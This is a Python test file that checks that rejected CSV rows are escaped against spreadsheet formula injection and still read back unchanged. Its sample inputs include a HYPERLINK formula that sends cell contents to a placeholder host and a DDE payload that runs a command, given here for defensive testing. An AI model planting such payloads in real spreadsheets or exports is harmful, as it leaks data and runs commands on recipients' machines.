"""No cell of a file of refused rows is a formula, and none loses its text on the way back."""

import csv
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.importing.reading.refusals import write_refusals
from agent.importing.tables.spreadsheet_cells import harmless, original
from agent.importing.tables.table import read_table

FORMULAS = (
    '=HYPERLINK("http://e.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "\nx",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    " =1",
    '"=1',
    "'=1",
    "''=1",
    "\u00a0\ufeff=1",
    "\u200b@x",
)
PLAIN = ("", "a", "1", "'a", "a=b", "it's", "2016-06-06", "x-1", "'", "é", "#1")
CELLS = st.text(st.sampled_from("=+-@'\" \t\r\na1\uff1d\uff20\u200b\u00a0"), max_size=6)


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_gets_an_apostrophe(cell: str) -> None:
    assert harmless(cell) == "'" + cell


@pytest.mark.parametrize("cell", PLAIN)
def test_any_other_cell_stays(cell: str) -> None:
    assert harmless(cell) == cell == original(cell)


@given(CELLS)
def test_the_text_comes_back(cell: str) -> None:
    assert original(harmless(cell)) == cell


@given(CELLS)
def test_nothing_that_is_written_begins_as_a_formula(cell: str) -> None:
    assert harmless(cell)[:1] not in tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
    assert not harmless(cell).lstrip(" \u00a0\u200b").startswith(("=", "+", "-", "@"))


def test_refused_rows_with_formulas_are_harmless_and_can_be_imported(
    recognised: Any, tmp_path: Path
) -> None:
    rows = [["id", "project", "created", "=title", "note"]]
    rows += [[cell, "p", "=no day", cell, f"{cell}."] for cell in FORMULAS if cell.strip()]
    source = tmp_path / "source.csv"
    with source.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows(rows)
    recognition = recognised(source.read_bytes().decode())
    assert len(recognition.refused) == len(rows) - 1
    path = write_refusals(tmp_path / "refused.csv", recognition)
    with path.open(encoding="utf-8", newline="") as stream:
        written = list(csv.reader(stream))
    dangerous = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
    assert not [cell for row in written for cell in row if cell.startswith(dangerous)]
    table = read_table(path)
    assert table.header == ("row", "column", "reason", *rows[0])
    assert [record.cells[3:] for record in table.records()] == rows[1:]


def test_cells_of_any_other_file_are_read_as_they_are(tmp_path: Path) -> None:
    path = tmp_path / "other.csv"
    path.write_text("id,title\n1,'=1\n")
    assert [record.cells for record in read_table(path).records()] == [["1", "'=1"]]
